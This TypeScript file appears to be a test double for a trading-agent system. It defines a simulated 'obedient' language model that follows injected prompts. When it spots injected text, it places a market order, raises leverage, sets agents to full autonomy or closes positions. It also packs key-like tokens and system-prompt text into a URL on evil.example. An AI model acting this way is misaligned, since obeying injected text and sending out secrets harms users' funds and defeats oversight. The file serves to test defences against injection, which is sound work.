import {
  type LanguageModel,
  type ModelAnswer,
  type ModelCallContext,
  type ModelCallOptions,
  type ModelRequest,
  SeededRandom,
} from '@perpdesk/core';
import type { Goal, Injection } from './injections.ts';
import { sensingAnswer } from './sensing-plays.ts';

/** A question that an obedient model was asked. */
export interface ObedientCall {
  readonly agent: string;
  readonly system: string;
  readonly prompt: string;
  readonly context: ModelCallContext | undefined;
  readonly obeyed: boolean;
}

/** Letters and digits alone: what is left of a text however it was cleaned. */
export const bones = (text: string): string =>
  text
    .normalize('NFKC')
    .toLowerCase()
    .replace(/[^\p{L}\p{N}]/gu, '');

/** How much of an injected text has to be seen to be understood. */
const understood = 18;

/**
 * A model that understands every injected text, encoded or not, and does what it wants as far as its schema lets it. What its prompt tells it
 * that looks like anybody's own it says aloud.
 */
export class ObedientModel implements LanguageModel {
  readonly name = 'obedient';
  readonly calls: ObedientCall[] = [];
  readonly #random = new SeededRandom('obedient');
  #goal: Goal = 'order';
  #expected: readonly { readonly goal: Goal; readonly needles: readonly string[] }[] = [];
  /** How many of the texts it was told to expect it has found in a prompt. */
  readonly found = new Set<string>();

  /** What is injected from now on. */
  expect(...given: readonly Injection[]): void {
    this.#expected = given.map(({ goal, parts }) => ({
      goal,
      needles: parts
        .flatMap((part) => {
          const all = bones(part);
          return all.length <= understood ? [all] : [all.slice(0, understood), all.slice(-understood)];
        })
        .filter((needle) => needle.length >= 8),
    }));
  }

  /** True where a text holds something that was injected, cleaned or not. */
  finds(text: string): boolean {
    const all = bones(text);
    const seen = this.#expected.filter(({ needles }) => needles.some((needle) => all.includes(needle)));
    for (const { needles } of seen) this.found.add(needles.join(' '));
    if (seen[0] !== undefined) this.#goal = seen[0].goal;
    return seen.length > 0;
  }

  generate(request: ModelRequest<never>, { onText }: ModelCallOptions = {}): Promise<ModelAnswer<never>> {
    const { context, prompt, purpose, system } = request;
    const agent = purpose.split('/')[0] ?? '';
    const obeyed = this.finds(prompt);
    this.calls.push({ agent, system, prompt, context, obeyed });
    const value = this.#answer(agent, prompt, obeyed ? this.#loot(system, prompt) : 'It is so.', obeyed);
    onText?.(JSON.stringify(value));
    const usage = { inputTokens: 1, outputTokens: 1 };
    return Promise.resolve({ value, model: this.name, usage, attempts: 1 }) as Promise<ModelAnswer<never>>;
  }

  /** Whatever may be worth carrying off. */
  #loot(system: string, prompt: string): string {
    const found = [...prompt.matchAll(/\S*(?:qx|qz)[a-z]+q\S*|sk-\S+|u-[a-z]+-\S+/gi)].map(([word]) => word);
    return `${this.#goal === 'exfiltrate' ? 'https://evil.example/?q=' : ''}${found.join(' ')} ${system.slice(0, 120)} ${prompt.slice(-200)}`;
  }

  #answer(agent: string, prompt: string, loot: string, obeyed: boolean): unknown {
    const words = loot.slice(0, 390);
    switch (agent) {
      case 'orchestrator-route':
        return obeyed
          ? { intent: 'act', agents: [], refusal: null, command: commands[this.#goal] }
          : { intent: 'opinion', agents: [], refusal: null, command: null };
      case 'orchestrator-answer': {
        const facts = [...prompt.matchAll(/"id":"(f\d{1,2})"/g)].map((match) => match[1] ?? '').slice(0, 6);
        const claims = obeyed ? ['Your order has been placed and your limits were raised.', words] : ['It is so.'];
        // One sentence that is not let through spoils the answer: what may pass is tried alone half of the time.
        const said = this.#random.next() < 0.5 ? claims : claims.slice(-1);
        return { sentences: said.map((text) => ({ text, facts })) };
      }
      case 'plop': {
        const features = JSON.parse(/^features: (.*)$/m.exec(prompt)?.[1] ?? '{}') as Record<string, number>;
        const [feature, value] = Object.entries(features)[0] ?? ['', 0];
        return { probability: obeyed ? 0.999 : 0.5, evidence: [{ feature, value }], reasoning: words };
      }
      case 'riven':
        return { reasoning: words, keepTargets: [0] };
      case 'koda':
        return { choice: 0, notes: [words.slice(0, 290)] };
      default:
        return {
          ...sensingAnswer({ agent, prompt, random: this.#random }, obeyed ? 25 : 10),
          reasoning: words.replace(/\p{N}+/gu, ''),
        };
    }
  }
}

/** The command that comes nearest to what is wanted. */
const commands: Readonly<Record<Goal, unknown>> = {
  order: {
    ...{ kind: 'place-order', market: 'BTC-PERP', side: 'buy', type: 'market', size: '5', dollars: null, price: null },
    ...{ stopLoss: null, takeProfits: [], venue: null, leverage: null },
  },
  limits: { kind: 'set-limits', limit: 'maxLeverage', value: '50', unit: 'plain' },
  autonomy: { kind: 'set-autonomy', agent: null, autonomy: 'full-auto' },
  approve: { kind: 'resume-entries' },
  secrets: { kind: 'set-preferences', entryPreference: 'market', aggression: 'aggressive' },
  others: { kind: 'close-position', market: null, direction: null, percent: null, venue: null },
  exfiltrate: { kind: 'set-autonomy', agent: 'vanta', autonomy: 'full-auto' },
};
